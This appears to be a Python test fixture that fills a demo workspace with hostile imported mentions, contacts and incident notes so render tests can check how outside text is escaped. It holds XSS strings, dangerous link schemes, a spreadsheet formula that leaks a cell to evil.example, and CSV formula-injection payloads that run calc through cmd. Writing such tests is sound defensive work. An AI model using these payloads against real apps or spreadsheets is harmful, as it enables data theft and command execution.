"""A demo workspace with hostile text everywhere outside text enters: imported mentions (author,
text, source, link), imported contacts, a note on the incident's timeline. Shared by the
test_render_* files, which check what leaves the app and how outside text is shown.
Built once per session on a copy of the demo; every test gets its own copy."""

from __future__ import annotations

import csv
import json
from pathlib import Path

# What an attacker puts in an author name: a local image Qt would load and a fake headline.
HOSTILE = '<img src="file:///etc/passwd"><h1>Call our NEW hotline</h1>'
SCRIPT = "<script>alert('owned')</script>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")'
BAD_LINKS = (
    "file:///etc/passwd",
    "javascript:alert(1)",
    "smb://evil.example/share",
    "ssh://evil.example",
    "JavaScript:alert(document.cookie)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "https:evil.example",
    "http:\\\\evil.example\\share",
)


def hostile_mentions_file(folder: Path) -> Path:
    """NDJSON as a listening tool would export it; every field the inbox shows is hostile."""
    rows = [
        {
            "id": f"bad-{number}",
            "date": f"2026-11-20T08:{number:02d}:00Z",
            "author_name": HOSTILE,
            "author_handle": "<b>evil</b>",
            "text": f"{SCRIPT} {HOSTILE} [refund](javascript:alert(1)) link {number}",
            "url": link,
            "source": f"<i>{HOSTILE}</i>",
        }
        for number, link in enumerate(BAD_LINKS)
    ]
    rows.append(
        {
            "id": "good",
            "date": "2026-11-20T09:00:00Z",
            "author_name": "Sophie Hart",
            "text": "A normal post about the tarts",
            "url": "https://x.example/status/1",
            "source": "x",
        }
    )
    path = folder / "hostile.ndjson"
    path.write_text("\n".join(json.dumps(row) for row in rows) + "\n", encoding="utf-8")
    return path


def hostile_contacts_file(folder: Path) -> Path:
    path = folder / "hostile-contacts.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Name", "Organisation", "Mobile", "Email", "Notes"])
        writer.writerow([HOSTILE, FORMULA, "+44 20 7946 0000", "evil@example.com", SCRIPT])
        writer.writerow(["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "", "", ""])
    return path


def build_hostile_workspace(cli, db: Path) -> None:
    """Onto the demo at `db` (plan, contacts, incident 1 with a debrief), everything hostile
    above. Built once per session; tests take a copy through the `hostile_workspace` fixture."""
    from app.store import open_store

    folder = db.parent
    result = cli("--db", db, "import", "mentions", hostile_mentions_file(folder), "--no-sentiment")
    assert result.code == 0, result.err
    result = cli("--db", db, "import", "contacts", hostile_contacts_file(folder))
    assert result.code == 0, result.err
    with open_store(db) as store:
        hostile = [m.id for m in store.mentions.search('"hotline"')]
        store.incidents.add_note(1, f"{SCRIPT} {HOSTILE} noted")
        store.incidents.attach_mentions(1, hostile)
        # An open one too (a title pasted from a post), so the crisis bar and room show it.
        current = store.incidents.declare(f"Posts say {HOSTILE}", 3, mention_ids=hostile)
        store.incidents.add_note(current.id, f"{SCRIPT} {HOSTILE} noted")
